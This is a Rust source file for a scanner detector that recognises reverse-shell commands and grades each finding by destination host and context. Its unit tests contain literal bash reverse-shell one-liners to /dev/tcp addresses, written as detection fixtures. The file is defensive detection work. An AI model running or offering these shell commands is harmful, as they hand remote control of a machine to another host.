//! Recognises commands that hand a shell to another machine.
//!
//! Nothing honest needs a shell whose input and output is a connection to a fixed host: administrators have SSH.
//!
//! - Sees: the usual forms in shell, awk, Python, Perl, PHP, Ruby, Lua, Node, Java, C#, Go, Rust, C source and PowerShell, by netcat, telnet,
//!   socat and OpenSSL, with host and port written out, at the call or (Python, PHP, Java) in variables before it.
//! - Misses: other host variables, encoded or compiled forms; shells that wait for a connection (`bind-shell`).
//! - False alarms: manuals and cheat sheets (text for people, many hosts or forms: a fact), payload generators (variables), exercises
//!   to loopback (a sign).
//! - Source: bash(1) REDIRECTION; ATT&CK T1059.004, T1071.

use model::{Category, Confidence, FileKind, Indicator, IndicatorKind, Maturity, Severity, Weight};

use super::{About, Detector, Match, Sample, Scope};
use crate::shell::{Host, reverse, text};

/// Bytes looked at before and after a literal.
const WINDOW_BYTES: usize = 800;
/// Most windows looked at in one file.
const WINDOWS_MAX: usize = 128;
/// More different forms in one file are a cheat sheet.
const FORMS_OF_ONE_SCRIPT_MAX: usize = 4;

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "reverse-shell",
        title: "Hands a shell to another machine",
        category: Category::Backdoor,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::High,
        maturity: Maturity::Stable,
        techniques: &["T1059.004", "T1071"],
    },
    scope: Scope::Content { kinds: text::TEXT_KINDS, literals: reverse::LITERALS },
    inspect,
};

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    let mut shells: Vec<(usize, reverse::Shell)> = Vec::new();
    let mut looked_until = 0;
    let mut windows = 0;
    for hit in sample.hits {
        if hit.offset < looked_until || windows == WINDOWS_MAX {
            continue;
        }
        windows += 1;
        looked_until = hit.offset + WINDOW_BYTES / 2;
        let (start, near) = sample.around(hit.offset, WINDOW_BYTES, WINDOW_BYTES);
        for shell in reverse::find(&String::from_utf8_lossy(near)) {
            let same = |known: &reverse::Shell| {
                known.form == shell.form && known.host == shell.host && known.port == shell.port
            };
            if !shells.iter().any(|(_, known)| same(known)) {
                shells.push((start.saturating_add(shell.offset), shell));
            }
        }
    }
    let mut forms: Vec<_> = shells.iter().map(|(_, shell)| shell.form).collect();
    forms.sort_unstable();
    forms.dedup();
    let is_cheat_sheet = forms.len() > FORMS_OF_ONE_SCRIPT_MAX;
    // One command may be of several forms.
    let mut told: Vec<(usize, reverse::Shell)> = Vec::new();
    for (offset, shell) in shells {
        let same = |(at, known): &(usize, reverse::Shell)| {
            known.host == shell.host && known.port == shell.port && offset.abs_diff(*at) < WINDOW_BYTES
        };
        if !told.iter().any(same) {
            told.push((offset, shell));
        }
    }
    told.iter().take(8).map(|(offset, shell)| judged(sample, *offset, shell, is_cheat_sheet)).collect()
}

fn judged(sample: &Sample<'_>, offset: usize, shell: &reverse::Shell, is_cheat_sheet: bool) -> Match {
    let value = format!("{}:{}", shell.host, shell.port);
    let host = shell.host_kind();
    let mut found = Match::new(format!("{} to {value}", shell.form), offset);
    let weight = match host {
        _ if is_cheat_sheet || text::is_document(sample, offset) => Weight::Fact,
        Host::Placeholder => Weight::Fact,
        Host::Loopback => Weight::Sign,
        Host::Private if sample.kind != FileKind::Script => Weight::Sign,
        _ => Weight::Proof,
    };
    if weight != DETECTOR.about.weight {
        found.weight = Some(weight);
        found.severity = Some(if weight == Weight::Fact { Severity::Info } else { Severity::Medium });
    }
    if host.is_outside() {
        found.indicators.push(Indicator { kind: IndicatorKind::Address, value });
    }
    found
}

#[cfg(test)]
mod tests {
    use model::Weight;

    use super::DETECTOR;
    use crate::detectors::testing::run;

    #[track_caller]
    fn check(text: &str, weights: &[Weight]) {
        let found = run(&DETECTOR, "x", 0o644, text.as_bytes());
        let found: Vec<_> = found.iter().map(|found| found.weight.unwrap_or(Weight::Proof)).collect();
        assert_eq!(found, weights, "{text}");
    }

    #[test]
    fn where_it_goes_and_who_reads_it_decide() {
        check("#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", &[Weight::Proof]);
        check("#!/bin/bash\nbash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n", &[Weight::Sign]);
        check("#!/bin/bash\n# bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", &[Weight::Fact]);
        check("#!/bin/bash\nbash -i >& /dev/tcp/$HOST/4444 0>&1\n", &[Weight::Fact]);
        check("[\"bash\", \"-c\", \"bash -i >& /dev/tcp/10.1.2.3/4444 0>&1\"]", &[Weight::Sign]);
        check("Run this:\n\n```\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n```\n", &[Weight::Fact]);
    }
}
